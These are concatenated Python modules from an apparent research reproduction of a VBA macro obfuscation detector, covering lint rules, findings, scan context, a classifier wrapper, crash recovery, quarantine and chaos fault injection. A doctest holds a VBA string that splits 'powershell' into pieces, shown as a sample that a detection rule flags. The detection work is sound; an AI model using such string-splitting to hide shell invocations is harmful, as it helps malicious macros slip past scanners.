            if ctx.use_counts.get(name, 0) == 0:
                yield self.finding(
                    ctx,
                    name_token,
                    f"private procedure {name_token.text!r} is never called",
                )


@register_rule
class UnusedVariable(Rule):
    """A ``Dim``'d variable that never appears again in the module."""

    rule_id = "o4-unused-variable"
    o_class = "O4"
    severity = "low"
    description = "declared variable is never used (dummy declaration)"

    def scan(self, ctx: LintContext):
        for statement in ctx.statements:
            for name_token in iter_dim_names(statement):
                if ctx.use_counts.get(name_token.text.lower(), 0) == 0:
                    yield self.finding(
                        ctx,
                        name_token,
                        f"variable {name_token.text!r} is declared but never "
                        "used",
                    )


@register_rule
class UnreachableCode(Rule):
    """Statements after an unconditional top-level ``Exit Sub``/``Function``.

    An ``Exit`` at procedure-body depth (not inside any block) makes every
    following statement before ``End Sub`` unreachable — where obfuscators
    park dummy or deliberately broken code.
    """

    rule_id = "o4-unreachable-code"
    o_class = "O4"
    severity = "medium"
    description = "code after an unconditional Exit Sub/Function is unreachable"

    _OPENERS = ("for", "do", "while", "with", "select")
    _CLOSERS = ("next", "loop", "wend")

    def scan(self, ctx: LintContext):
        statements = ctx.statements
        in_procedure = False
        depth = 0
        pending_exit = False
        for statement in statements:
            head = statement[0]
            if procedure_header(statement) is not None:
                in_procedure = True
                depth = 0
                pending_exit = False
                continue
            if is_keyword(head, "end") and len(statement) > 1 and is_keyword(
                statement[1], "sub", "function"
            ):
                in_procedure = False
                pending_exit = False
                continue
            if not in_procedure:
                continue
            if pending_exit:
                yield self.finding(
                    ctx,
                    head,
                    "statement is unreachable: an unconditional Exit "
                    "precedes it",
                )
                pending_exit = False
                continue
            if is_keyword(head, *self._OPENERS):
                depth += 1
            elif is_keyword(head, *self._CLOSERS):
                depth = max(0, depth - 1)
            elif is_keyword(head, "if") and is_keyword(statement[-1], "then"):
                depth += 1  # block If ... Then
            elif is_keyword(head, "end") and len(statement) > 1 and is_keyword(
                statement[1], "if", "select", "with"
            ):
                depth = max(0, depth - 1)
            elif (
                depth == 0
                and is_keyword(head, "exit")
                and len(statement) > 1
                and is_keyword(statement[1], "sub", "function")
            ):
                pending_exit = True


@register_rule
class NoOpArithmetic(Rule):
    """Arithmetic that provably does nothing (``x + 0``, ``y * 1``, ``a = a``)."""

    rule_id = "o4-noop-arithmetic"
    o_class = "O4"
    severity = "info"
    description = "no-op arithmetic padding"

    def scan(self, ctx: LintContext):
        for statement in ctx.statements:
            if (
                len(statement) == 3
                and statement[0].kind is TokenKind.IDENTIFIER
                and is_operator(statement[1], "=")
                and statement[2].kind is TokenKind.IDENTIFIER
                and statement[0].text.lower() == statement[2].text.lower()
            ):
                yield self.finding(
                    ctx,
                    statement[0],
                    f"self-assignment {statement[0].text!r} = "
                    f"{statement[2].text!r} has no effect",
                )
                continue
            for index, token in enumerate(statement[: len(statement) - 1]):
                follower = statement[index + 1]
                if follower.kind is not TokenKind.NUMBER:
                    continue
                if is_operator(token, "+", "-") and follower.text == "0":
                    yield self.finding(
                        ctx, token, f"'{token.text} 0' is a no-op"
                    )
                elif is_operator(token, "*", "/", "\\", "^") and follower.text == "1":
                    yield self.finding(
                        ctx, token, f"'{token.text} 1' is a no-op"
                    )
