"""The findings data model shared by every lint rule.

A :class:`Finding` is one explainable observation tied to a source
location: *which rule* fired, *which obfuscation class* (O1–O4, or ``AA``
for the §VI.B anti-analysis techniques) it evidences, *where* (line and
column span), and *why* (message plus the offending source excerpt).
The classifier's verdict stays a float; findings are the analyst-facing
explanation next to it.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

#: Obfuscation classes a rule may evidence.  ``O1``–``O4`` follow the
#: paper's Table I taxonomy; ``AA`` covers the §VI.B anti-analysis tricks;
#: ``SA`` marks findings derived from statically recovered strings
#: (:mod:`repro.sa`), which have no pre-decode source location to blame.
O_CLASSES = ("O1", "O2", "O3", "O4", "AA", "SA")

#: Finding severities, mildest first.
SEVERITIES = ("info", "low", "medium", "high")


@dataclass(frozen=True, slots=True)
class Finding:
    """One rule hit at one source location."""

    rule_id: str
    o_class: str  # one of O_CLASSES
    severity: str  # one of SEVERITIES
    line: int  # 1-based physical line of the first offending token
    span: tuple[int, int]  # 1-based [start, end) column range on that line
    message: str  # human-readable explanation of what fired
    evidence: str  # offending source excerpt (trimmed)

    def __post_init__(self) -> None:
        if self.o_class not in O_CLASSES:
            raise ValueError(f"unknown obfuscation class {self.o_class!r}")
        if self.severity not in SEVERITIES:
            raise ValueError(f"unknown severity {self.severity!r}")

    @property
    def location(self) -> str:
        return f"{self.line}:{self.span[0]}"

    def to_dict(self) -> dict[str, Any]:
        return {
            "rule_id": self.rule_id,
            "o_class": self.o_class,
            "severity": self.severity,
            "line": self.line,
            "span": list(self.span),
            "message": self.message,
            "evidence": self.evidence,
        }


def sort_findings(findings: Iterable[Finding]) -> list[Finding]:
    """Deterministic report order: by location, then rule id."""
    return sorted(
        findings, key=lambda f: (f.line, f.span[0], f.rule_id, f.message)
    )


def count_by_class(findings: Iterable[Finding]) -> dict[str, int]:
    """Per-class finding counts over all of ``O_CLASSES`` (zeros included)."""
    counts = Counter(finding.o_class for finding in findings)
    return {o_class: counts.get(o_class, 0) for o_class in O_CLASSES}
