"""Rule-based obfuscation lint engine.

Static-analysis rules over the :mod:`repro.vba` substrate that explain
*why* a macro looks obfuscated: each registered rule yields line-level
:class:`~repro.lint.findings.Finding` records tagged with the paper's
O1–O4 obfuscation classes (plus ``AA`` for §VI.B anti-analysis tricks).

    >>> from repro.lint import lint_source
    >>> findings = lint_source('s = "pow" & "ers" & "hell"\n')
    >>> findings[0].rule_id
    'o2-literal-concat'

Rules live in :mod:`repro.lint.rules` and self-register on import; add
new ones with :func:`register_rule`.
"""

from repro.lint.context import LintContext
from repro.lint.findings import (
    O_CLASSES,
    SEVERITIES,
    Finding,
    count_by_class,
    sort_findings,
)
from repro.lint.registry import (
    Rule,
    all_rules,
    get_rule,
    lint_analysis,
    lint_source,
    register_rule,
    rule_ids,
    rules_for_class,
)

from repro.lint import rules as _rules  # noqa: F401  (registers built-ins)

__all__ = [
    "Finding",
    "LintContext",
    "O_CLASSES",
    "Rule",
    "SEVERITIES",
    "all_rules",
    "count_by_class",
    "get_rule",
    "lint_analysis",
    "lint_source",
    "register_rule",
    "rule_ids",
    "rules_for_class",
    "sort_findings",
]
