"""Shared per-module scan state handed to every lint rule.

Rules all walk the same :class:`~repro.vba.analyzer.MacroAnalysis`
substrate; the :class:`LintContext` memoizes the derived views they keep
needing — the significant token stream, logical statements, identifier
use counts — so a full rule sweep stays one lex pass plus cheap token
walks, never a re-tokenization per rule.
"""

from __future__ import annotations

from functools import cached_property
from typing import TYPE_CHECKING

from repro.vba.analyzer import MacroAnalysis
from repro.vba.tokens import Token, TokenKind

if TYPE_CHECKING:  # pragma: no cover
    from repro.sa.records import StringRecovery

_NAME_KINDS = (TokenKind.IDENTIFIER, TokenKind.KEYWORD)

#: ReDoS / pathological-line guard: the longest physical-line prefix any
#: rule gets to scan.  Hostile macros pack megabytes onto one line (a
#: whole payload in one concatenation chain); rules that re-scan line text
#: must stay O(cap), not O(line).  4 KiB comfortably covers every line a
#: human or a legitimate generator writes.
MAX_LINE_SCAN_CHARS = 4096


def is_name(token: Token, *names: str) -> bool:
    """True when the token is an identifier/keyword matching one of ``names``.

    Matching is case-insensitive and ignores a VBA type suffix
    (``Mid$`` matches ``mid``).
    """
    if token.kind not in _NAME_KINDS:
        return False
    text = token.text.lower()
    if text and text[-1] in "%&!#@$":
        text = text[:-1]
    return text in names


def is_keyword(token: Token, *words: str) -> bool:
    return token.kind is TokenKind.KEYWORD and token.text.lower() in words


def is_punct(token: Token, text: str) -> bool:
    return token.kind is TokenKind.PUNCT and token.text == text


def is_operator(token: Token, *texts: str) -> bool:
    return token.kind is TokenKind.OPERATOR and token.text in texts


def token_span(token: Token) -> tuple[int, int]:
    """The 1-based ``[start, end)`` column span of a token on its line."""
    return (token.column, token.column + len(token.text))


class LintContext:
    """Cached views over one macro's analysis, shared across all rules."""

    def __init__(
        self,
        analysis: MacroAnalysis,
        recovery: "StringRecovery | None" = None,
    ) -> None:
        self.analysis = analysis
        #: statically recovered strings from the engine's RecoverStage;
        #: ``None`` when the recover pass did not run (the SA rules then
        #: stay silent)
        self.recovery = recovery

    @cached_property
    def significant(self) -> list[Token]:
        """Tokens with whitespace, continuations, comments and EOF dropped."""
        unwanted = (
            TokenKind.WHITESPACE,
            TokenKind.NEWLINE,
            TokenKind.LINE_CONTINUATION,
            TokenKind.COMMENT,
            TokenKind.EOF,
        )
        return [
            token
            for token in self.analysis.tokens
            if token.kind not in unwanted
        ]

    @cached_property
    def statements(self) -> list[list[Token]]:
        """Significant tokens grouped into logical statements.

        Statements break on newlines and on ``:`` separators outside
        parentheses (``DoEvents: i = i + 1`` is two statements).  Line
        continuations were already spliced by the lexer, so a continued
        statement arrives as one group.
        """
        groups: list[list[Token]] = []
        current: list[Token] = []
        depth = 0
        unwanted = (
            TokenKind.WHITESPACE,
            TokenKind.LINE_CONTINUATION,
            TokenKind.COMMENT,
            TokenKind.EOF,
        )
        for token in self.analysis.tokens:
            if token.kind in unwanted:
                continue
            if token.kind is TokenKind.NEWLINE or (
                depth == 0 and is_punct(token, ":")
            ):
                if current:
                    groups.append(current)
                    current = []
                continue
            if is_punct(token, "("):
                depth += 1
            elif is_punct(token, ")"):
                depth = max(0, depth - 1)
            current.append(token)
        if current:
            groups.append(current)
        return groups

    @cached_property
    def use_counts(self) -> dict[str, int]:
        """Lower-cased identifier-use counts (declaration sites excluded)."""
        counts: dict[str, int] = {}
        for name in self.analysis.identifier_uses:
            key = name.lower()
            counts[key] = counts.get(key, 0) + 1
        return counts

    @cached_property
    def first_name_token(self) -> dict[str, Token]:
        """First identifier token per lower-cased name, for locating declarations."""
        first: dict[str, Token] = {}
        for token in self.significant:
            if token.kind is TokenKind.IDENTIFIER:
                first.setdefault(token.text.lower(), token)
        return first

    def line_text(self, line: int) -> str:
        """The trimmed source text of a 1-based physical line.

        Capped to :data:`MAX_LINE_SCAN_CHARS` *before* any other string
        work, so one multi-megabyte line cannot turn a rule sweep
        quadratic (the slice keeps every later scan O(cap))."""
        lines = self.analysis.lines
        if 1 <= line <= len(lines):
            return lines[line - 1][:MAX_LINE_SCAN_CHARS].strip()
        return ""

    def evidence(self, token: Token, limit: int = 120) -> str:
        """Trimmed source line of ``token``, capped to ``limit`` characters."""
        text = self.line_text(token.line)
        if len(text) > limit:
            text = text[: limit - 1] + "…"
        return text
