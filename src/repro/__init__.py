"""Reproduction of "Obfuscated VBA Macro Detection Using Machine Learning"
(Kim, Hong, Oh, Lee — DSN 2018).

Subpackages:

* :mod:`repro.vba` — VBA lexer, structural analyzer, subset parser and
  interpreter (the language substrate);
* :mod:`repro.obfuscation` — the paper's O1–O4 obfuscation taxonomy as
  working transforms, plus the anti-analysis tricks of Section VI.B;
* :mod:`repro.ole` — MS-CFB / MS-OVBA / OOXML container formats and the
  olevba-equivalent macro extractor;
* :mod:`repro.corpus` — synthetic benign/malicious document corpus
  (Tables II/III population shape);
* :mod:`repro.avsim` — multi-vendor AV simulation with the paper's
  VirusTotal labeling thresholds;
* :mod:`repro.features` — the V1–V15 feature set (Table IV) and the J1–J20
  baseline (Table VI);
* :mod:`repro.ml` — from-scratch classifiers (SVM, RF, MLP, LDA, BNB),
  metrics and cross-validation;
* :mod:`repro.pipeline` — the end-to-end Section V experiments.

Quickstart::

    from repro import ObfuscationDetector
    detector = ObfuscationDetector("MLP").fit(sources, labels)
    detector.predict([new_macro_source])
"""

from __future__ import annotations

__version__ = "1.0.0"

from repro.features.vfeatures import extract_v_features
from repro.pipeline.classifiers import make_classifier, preprocessor_for


class ObfuscationDetector:
    """A ready-to-use detector: V features + one of the paper's classifiers.

    Train on labeled macro sources, then classify new ones::

        detector = ObfuscationDetector("MLP").fit(sources, labels)
        detector.predict(["Sub x()\\n...\\nEnd Sub"])
    """

    def __init__(self, classifier: str = "MLP", random_state: int = 0) -> None:
        self._model = make_classifier(classifier, random_state)
        factory = preprocessor_for(classifier)
        self._preprocessor = factory() if factory is not None else None
        self.classifier_name = classifier

    def fit(self, sources: list[str], labels) -> "ObfuscationDetector":
        """Train on macro source texts with 1 = obfuscated / 0 = normal."""
        import numpy as np

        X = np.vstack([extract_v_features(source) for source in sources])
        if self._preprocessor is not None:
            X = self._preprocessor.fit_transform(X)
        self._model.fit(X, np.asarray(labels))
        return self

    def _features(self, sources: list[str]):
        import numpy as np

        X = np.vstack([extract_v_features(source) for source in sources])
        if self._preprocessor is not None:
            X = self._preprocessor.transform(X)
        return X

    def predict(self, sources: list[str]):
        """Return 1 (obfuscated) / 0 (normal) per source."""
        return self._model.predict(self._features(sources))

    def predict_proba(self, sources: list[str]):
        """Return per-source [P(normal), P(obfuscated)]."""
        return self._model.predict_proba(self._features(sources))

    def proba_from_features(self, X):
        """Score pre-extracted raw V-feature rows (parse-once entry point).

        ``X`` is the untransformed (n × 15) matrix as produced by
        :func:`~repro.features.vfeatures.extract_v_features`; the fitted
        preprocessor is applied here, so callers that already hold a
        :class:`~repro.vba.analyzer.MacroAnalysis` never re-lex the source.
        """
        import numpy as np

        X = np.asarray(X, dtype=np.float64)
        if self._preprocessor is not None:
            X = self._preprocessor.transform(X)
        return self._model.predict_proba(X)

    def proba_from_matrix(self, X):
        """Batch-score raw feature rows: ``(n, 15) -> (n, 2)``.

        The batched classification kernel's canonical name for
        :meth:`proba_from_features`; the preprocessor transform and every
        classifier's inference path are row-stable, so any micro-batching
        of the same rows produces bit-identical probabilities.
        """
        return self.proba_from_features(X)


def detect_obfuscation(source: str, detector: ObfuscationDetector) -> bool:
    """Classify one macro source with a fitted detector."""
    return bool(detector.predict([source])[0])


__all__ = [
    "ObfuscationDetector",
    "__version__",
    "detect_obfuscation",
]
