"""Worker-failure policy: capped retries, then quarantine — per task.

``ProcessPoolExecutor`` fails collectively: one worker dying mid-task (a
segfaulting parser, an ``os._exit``, the OOM killer) breaks its whole pool
and every in-flight future with it.  PR 4 recovered from that with
round-based blame attribution and ``O(log n)`` bisection, because a
multi-task pool could not say *which* task killed it.  The streaming
engine (:mod:`repro.engine.stream`) removes the ambiguity structurally:
each worker slot is a single-process executor with exactly one task in
flight, so a broken slot indicts exactly the task it was holding —
bisection disappears, and what remains of recovery is pure *policy*:

* a blamed task is retried up to :attr:`RetryPolicy.max_attempts` times
  with capped exponential backoff (transient failures — OOM pressure, a
  flaky sandbox — get their chance);
* when retries are exhausted the input is **quarantined**: the stream
  keeps its one-record-per-input contract with a
  :func:`~repro.resilience.quarantine.quarantine_record` in that
  position;
* only the dead worker slot is rebuilt; surviving workers stay warm.

Telemetry (unchanged names from PR 4): ``resilience.pool_failures`` /
``resilience.retries`` / ``resilience.quarantined`` counters, a
``pool.recover`` span around each slot rebuild, and a ``quarantine`` span
(outcome ``error``) per quarantined document.  ``resilience.bisections``
is structurally zero now and kept only so dashboards watching it read 0
rather than disappearing.
"""

from __future__ import annotations

import time
from dataclasses import dataclass

#: Monkeypatchable sleep so tests exercise backoff without waiting it out.
_sleep = time.sleep


@dataclass(frozen=True, slots=True)
class RetryPolicy:
    """How hard the pool tries before quarantining a blamed input."""

    #: total attempts for a blamed task (first run + retries)
    max_attempts: int = 3
    #: backoff before retry ``k`` is ``min(cap, base * 2**k)`` seconds
    backoff_base_s: float = 0.05
    backoff_cap_s: float = 1.0

    def backoff(self, attempt: int) -> float:
        return min(self.backoff_cap_s, self.backoff_base_s * (2.0**attempt))


DEFAULT_RETRY = RetryPolicy()
