"""``BrokenProcessPool`` recovery: bisect, retry with backoff, quarantine.

``ProcessPoolExecutor`` fails collectively: one worker dying mid-task (a
segfaulting parser, an ``os._exit``, the OOM killer) breaks the whole pool
and every in-flight future with it — the pool cannot say *which* task
killed it.  Losing a 10,000-document batch to one poison input is exactly
the failure mode a production gateway cannot have, so
:func:`run_with_recovery` turns pool death into convergence:

1. work is scheduled in **rounds**, one suspect group per round, chunked
   across the pool for parallelism.  The first round is the whole batch —
   i.e. the normal path at full speed;
2. when a round breaks the pool, blame lands on that round's group alone
   (nothing else was in flight).  The pool is rebuilt and the group is
   **bisected**: each half becomes its own round, so innocent documents
   that shared a round with the poison one are re-proven good in
   ``O(log n)`` rounds;
3. a suspect group of size one is **retried** up to
   :attr:`RetryPolicy.max_attempts` times with capped exponential backoff
   (transient failures — OOM pressure, a flaky sandbox — get their
   chance); when its retries are exhausted the input is **quarantined**:
   the batch keeps its one-record-per-input contract with a
   :func:`~repro.resilience.quarantine.quarantine_record` in that
   position;
4. failures that *are* attributable to one chunk (an unpicklable or
   oversized stage result raising on the way back) skip the blame
   ambiguity and bisect that chunk directly.

Telemetry: ``resilience.pool_failures`` / ``resilience.bisections`` /
``resilience.retries`` / ``resilience.quarantined`` counters, a
``pool.recover`` span around each pool rebuild, and a ``quarantine`` span
(outcome ``error``) per quarantined document.
"""

from __future__ import annotations

import time
from collections import deque
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass

from repro.resilience.quarantine import quarantine_record

#: Monkeypatchable sleep so tests exercise backoff without waiting it out.
_sleep = time.sleep


@dataclass(frozen=True, slots=True)
class RetryPolicy:
    """How hard recovery tries before quarantining a single input."""

    #: total attempts for a size-one suspect group (first run + retries)
    max_attempts: int = 3
    #: backoff before retry ``k`` is ``min(cap, base * 2**k)`` seconds
    backoff_base_s: float = 0.05
    backoff_cap_s: float = 1.0

    def backoff(self, attempt: int) -> float:
        return min(self.backoff_cap_s, self.backoff_base_s * (2.0**attempt))


DEFAULT_RETRY = RetryPolicy()


class _Pool:
    """A rebuildable executor handle shared across recovery rounds."""

    def __init__(self, jobs: int) -> None:
        self.jobs = jobs
        self.executor = ProcessPoolExecutor(max_workers=jobs)

    def rebuild(self) -> None:
        self.executor.shutdown(wait=False, cancel_futures=True)
        self.executor = ProcessPoolExecutor(max_workers=self.jobs)

    def shutdown(self) -> None:
        self.executor.shutdown(wait=False, cancel_futures=True)


def run_with_recovery(engine, unique, jobs: int, policy: RetryPolicy | None = None):
    """Process ``unique`` ``(digest, source_id, data)`` triples on a pool,
    surviving worker crashes; returns ``{digest: DocumentRecord}`` complete
    for every input (quarantine records included)."""
    from repro.engine.core import _chunked, _process_document_chunk

    policy = policy if policy is not None else DEFAULT_RETRY
    metrics = engine.metrics
    processed: dict = {}
    #: rounds of (items, attempt); depth-first so poison converges fast
    rounds: deque[tuple[list, int]] = deque([(list(unique), 0)])
    pool = _Pool(jobs)
    try:
        while rounds:
            items, attempt = rounds.popleft()
            if not items:
                continue
            suspects: list = []  # items whose failure is not attributable
            attributable: list[tuple[list, BaseException]] = []
            broke = False

            chunks = _chunked(items, jobs)
            futures = []
            for position, chunk in enumerate(chunks):
                try:
                    future = pool.executor.submit(
                        _process_document_chunk, (engine, chunk)
                    )
                except BrokenProcessPool:
                    broke = True
                    for unsubmitted in chunks[position:]:
                        suspects.extend(unsubmitted)
                    break
                futures.append((future, chunk))
            for future, chunk in futures:
                try:
                    chunk_result, telemetry = future.result()
                except BrokenProcessPool:
                    broke = True
                    suspects.extend(chunk)
                except Exception as error:  # poison result (e.g. unpicklable)
                    attributable.append((chunk, error))
                else:
                    processed.update(chunk_result)
                    engine._merge_worker_telemetry(telemetry)

            delay = 0.0
            if broke:
                span = None
                if metrics.enabled:
                    metrics.counter("resilience.pool_failures").inc()
                    span = metrics.span("pool.recover").start()
                pool.rebuild()
                if span is not None:
                    span.finish(outcome="error")
                error = BrokenProcessPool(
                    "a worker died; the pool could not attribute the failure"
                )
                delay = max(
                    delay,
                    _requeue(
                        suspects, attempt, error, rounds, processed,
                        policy, metrics,
                    ),
                )
            for chunk, error in attributable:
                delay = max(
                    delay,
                    _requeue(
                        chunk, attempt, error, rounds, processed,
                        policy, metrics,
                    ),
                )
            if delay > 0.0 and rounds:
                _sleep(delay)
    finally:
        pool.shutdown()
    return processed


def _requeue(items, attempt, error, rounds, processed, policy, metrics) -> float:
    """Route one failed suspect group: bisect, schedule a retry, or
    quarantine.  Returns the backoff delay the failure asks for (0 when
    bisecting — splitting is diagnosis, not retrying)."""
    if not items:
        return 0.0
    if len(items) > 1:
        mid = len(items) // 2
        rounds.appendleft((items[mid:], attempt))
        rounds.appendleft((items[:mid], attempt))
        if metrics.enabled:
            metrics.counter("resilience.bisections").inc()
        return 0.0
    digest, source_id, _data = items[0]
    if attempt + 1 < policy.max_attempts:
        rounds.appendleft((items, attempt + 1))
        if metrics.enabled:
            metrics.counter("resilience.retries").inc()
        return policy.backoff(attempt)
    reason = (
        f"{type(error).__name__}: {error}" if str(error) else type(error).__name__
    )
    processed[digest] = quarantine_record(
        source_id, digest, reason, attempts=attempt + 1, stage="pool"
    )
    if metrics.enabled:
        metrics.counter("resilience.quarantined").inc()
        metrics.span("quarantine", doc=digest).start().finish(outcome="error")
    return 0.0
