"""Quarantine records: what the batch returns for a poison document.

When a worker dies holding a task (per-task blame: one task in flight per
worker slot) and its capped retries are exhausted, the stream still owes
its caller one record for that position.  The quarantine record is that placeholder: a degraded
:class:`~repro.engine.records.DocumentRecord` carrying a structured
``quarantine`` payload —

.. code-block:: json

    {"reason": "BrokenProcessPool: ...", "attempts": 3,
     "stage": "pool", "retriable": true}

— so ``--format json`` output stays one-record-per-input and an operator
can replay exactly the quarantined documents later.  Quarantine records
are **never cached**: the failure is an infrastructure observation about
this run, not a property of the content hash.
"""

from __future__ import annotations

import json
from typing import Any, Iterable

from repro.engine.records import DocumentRecord, sha256_hex


def quarantine_record(
    source_id: str,
    sha256: str | None,
    reason: str,
    *,
    attempts: int = 1,
    stage: str = "pool",
) -> DocumentRecord:
    """A degraded record standing in for a document the pool could not hold."""
    record = DocumentRecord(source_id=source_id, sha256=sha256)
    record.degraded = True
    record.quarantine = {
        "reason": reason,
        "attempts": attempts,
        "stage": stage,
        "retriable": True,
    }
    record.diag(
        "quarantine",
        "error",
        f"quarantined after {attempts} attempt{'s' if attempts != 1 else ''}: "
        f"{reason}",
    )
    return record


def quarantine_report(records: Iterable[DocumentRecord]) -> dict[str, Any]:
    """The ``--quarantine-out`` artifact: every quarantined or degraded record.

    Quarantined records appear in full (they are small by construction);
    degraded-but-delivered records are listed as summaries so the report
    shows the whole blast radius of a hostile batch.
    """
    quarantined = []
    degraded = []
    total = 0
    for record in records:
        total += 1
        if record.quarantine is not None:
            quarantined.append(record.to_dict())
        elif record.degraded:
            degraded.append(
                {
                    "path": record.source_id,
                    "sha256": record.sha256,
                    "error": record.error,
                    "completed_stages": list(record.completed_stages),
                }
            )
    return {
        "total_records": total,
        "quarantined_count": len(quarantined),
        "degraded_count": len(degraded),
        "quarantined": quarantined,
        "degraded": degraded,
    }


def load_replay_targets(path: str) -> list[tuple[str, str | None]]:
    """The ``(path, recorded sha256)`` pairs a ``--quarantine-out`` report
    asks to be replayed.

    Raises :class:`ValueError` when the file is not a quarantine report —
    replaying an arbitrary JSON file would silently analyze nothing.
    """
    with open(path, "r", encoding="utf-8") as handle:
        report = json.load(handle)
    if not isinstance(report, dict) or "quarantined" not in report:
        raise ValueError(
            f"{path}: not a quarantine report (expected the --quarantine-out "
            f"shape with a 'quarantined' list)"
        )
    targets: list[tuple[str, str | None]] = []
    for entry in report["quarantined"]:
        if not isinstance(entry, dict) or "path" not in entry:
            raise ValueError(f"{path}: malformed quarantined entry: {entry!r}")
        targets.append((entry["path"], entry.get("sha256")))
    return targets


def verify_replay(path: str, recorded_sha256: str | None) -> tuple[bytes | None, str | None]:
    """Read one replay target and check it is still the quarantined document.

    Returns ``(data, None)`` when the on-disk bytes hash to the recorded
    digest, or ``(None, reason)`` when the file is unreadable or has
    changed since quarantine — replaying different content would attribute
    its outcome to the wrong incident.
    """
    try:
        with open(path, "rb") as handle:
            data = handle.read()
    except OSError as error:
        return None, f"unreadable: {error}"
    if recorded_sha256 is not None:
        actual = sha256_hex(data)
        if actual != recorded_sha256:
            return None, (
                f"digest mismatch: quarantined {recorded_sha256[:12]}..., "
                f"on disk {actual[:12]}... (file changed since quarantine)"
            )
    return data, None
