"""Quarantine records: what the batch returns for a poison document.

When recovery bisects a broken pool down to a single input and its capped
retries are exhausted, the batch still owes its caller one record for that
position.  The quarantine record is that placeholder: a degraded
:class:`~repro.engine.records.DocumentRecord` carrying a structured
``quarantine`` payload —

.. code-block:: json

    {"reason": "BrokenProcessPool: ...", "attempts": 3,
     "stage": "pool", "retriable": true}

— so ``--format json`` output stays one-record-per-input and an operator
can replay exactly the quarantined documents later.  Quarantine records
are **never cached**: the failure is an infrastructure observation about
this run, not a property of the content hash.
"""

from __future__ import annotations

from typing import Any, Iterable

from repro.engine.records import DocumentRecord


def quarantine_record(
    source_id: str,
    sha256: str | None,
    reason: str,
    *,
    attempts: int = 1,
    stage: str = "pool",
) -> DocumentRecord:
    """A degraded record standing in for a document the pool could not hold."""
    record = DocumentRecord(source_id=source_id, sha256=sha256)
    record.degraded = True
    record.quarantine = {
        "reason": reason,
        "attempts": attempts,
        "stage": stage,
        "retriable": True,
    }
    record.diag(
        "quarantine",
        "error",
        f"quarantined after {attempts} attempt{'s' if attempts != 1 else ''}: "
        f"{reason}",
    )
    return record


def quarantine_report(records: Iterable[DocumentRecord]) -> dict[str, Any]:
    """The ``--quarantine-out`` artifact: every quarantined or degraded record.

    Quarantined records appear in full (they are small by construction);
    degraded-but-delivered records are listed as summaries so the report
    shows the whole blast radius of a hostile batch.
    """
    quarantined = []
    degraded = []
    total = 0
    for record in records:
        total += 1
        if record.quarantine is not None:
            quarantined.append(record.to_dict())
        elif record.degraded:
            degraded.append(
                {
                    "path": record.source_id,
                    "sha256": record.sha256,
                    "error": record.error,
                    "completed_stages": list(record.completed_stages),
                }
            )
    return {
        "total_records": total,
        "quarantined_count": len(quarantined),
        "degraded_count": len(degraded),
        "quarantined": quarantined,
        "degraded": degraded,
    }
