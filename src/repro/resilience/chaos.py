"""Fault injection: a chaos stage that misbehaves on schedule.

The resilience machinery is only trustworthy if the failure paths run on
every CI push, not just when an attacker finds them.  A :class:`FaultPlan`
names which documents fail and how; a :class:`ChaosStage` spliced into the
engine's stage chain (``AnalysisEngine(chaos=plan)`` or the hidden
``--chaos`` CLI flag) triggers the matching fault:

========  ==============================================================
kind      behavior when a document's ``source_id`` matches
========  ==============================================================
raise     raise :class:`ChaosError` (exercises graceful degradation)
hang      sleep ``hang_s`` seconds (exercises the stage watchdog)
oversize  emit a macro of ``oversize_bytes`` chars (exercises output caps)
exit      ``os._exit(86)`` in a pool worker (exercises BrokenProcessPool
          recovery); downgraded to ``raise`` in the parent process so an
          in-process run degrades instead of killing the CLI
========  ==============================================================

Plans are frozen and picklable, so they travel to pool workers with the
engine — which is exactly how the ``exit`` fault lands inside a worker.
"""

from __future__ import annotations

import multiprocessing
import os
import time
from dataclasses import dataclass

from repro.engine.records import DocumentRecord, MacroRecord
from repro.engine.stages import Stage

FAULT_KINDS = ("raise", "hang", "oversize", "exit")

#: The status a chaos-killed worker dies with (visible in pool post-mortems).
EXIT_STATUS = 86


class ChaosError(RuntimeError):
    """The injected stage failure."""


@dataclass(frozen=True, slots=True)
class Fault:
    """One scheduled failure: ``kind`` fires when ``match`` is a substring
    of the document's ``source_id``."""

    kind: str
    match: str

    def __post_init__(self) -> None:
        if self.kind not in FAULT_KINDS:
            raise ValueError(
                f"unknown fault kind {self.kind!r}; known: {', '.join(FAULT_KINDS)}"
            )
        if not self.match:
            raise ValueError("fault match pattern must be non-empty")


@dataclass(frozen=True, slots=True)
class FaultPlan:
    """A deterministic set of faults plus their tuning knobs."""

    faults: tuple[Fault, ...]
    hang_s: float = 60.0
    oversize_bytes: int = 32 * 1024 * 1024

    @classmethod
    def parse(cls, spec: str, **knobs) -> "FaultPlan":
        """Build a plan from ``kind:pattern[,kind:pattern...]``.

        Example: ``hang:doc_007,exit:doc_013`` hangs any document whose id
        contains ``doc_007`` and kills the worker analyzing ``doc_013``.
        """
        faults = []
        for entry in spec.split(","):
            entry = entry.strip()
            if not entry:
                continue
            kind, separator, match = entry.partition(":")
            if not separator:
                raise ValueError(
                    f"bad fault entry {entry!r}; expected kind:pattern"
                )
            faults.append(Fault(kind=kind.strip(), match=match.strip()))
        if not faults:
            raise ValueError("empty fault plan")
        return cls(faults=tuple(faults), **knobs)

    def fault_for(self, source_id: str) -> Fault | None:
        for fault in self.faults:
            if fault.match in source_id:
                return fault
        return None


class ChaosStage(Stage):
    """The saboteur stage: runs right after extraction, fails on plan."""

    name = "chaos"

    def __init__(self, plan: FaultPlan) -> None:
        self.plan = plan

    def process(self, document: DocumentRecord) -> None:
        fault = self.plan.fault_for(document.source_id)
        if fault is None:
            return
        kind = fault.kind
        if kind == "exit" and multiprocessing.parent_process() is None:
            # In the parent process an os._exit would take the whole CLI
            # down; degrade to a stage failure so the run stays total.
            kind = "raise"
        if kind == "raise":
            raise ChaosError(f"injected failure for {fault.match!r}")
        if kind == "hang":
            deadline = time.perf_counter() + self.plan.hang_s
            while time.perf_counter() < deadline:
                time.sleep(min(0.05, self.plan.hang_s))
            raise ChaosError(f"hang for {fault.match!r} outlived its budget")
        if kind == "oversize":
            document.macros.append(
                MacroRecord(
                    module_name="ChaosOversize",
                    source="A" * self.plan.oversize_bytes,
                    sha256="0" * 64,  # skip hashing the flood
                )
            )
            return
        if kind == "exit":
            os._exit(EXIT_STATUS)
