"""Resilient execution: budgets, crash recovery, quarantine, fault injection.

The paper's pipeline has to survive exactly the inputs attackers craft —
malformed containers, pathological macros, anti-analysis tricks — and the
infrastructure failures that heavy traffic guarantees.  This package makes
:meth:`~repro.engine.AnalysisEngine.run` / ``run_batch`` *total* under both:

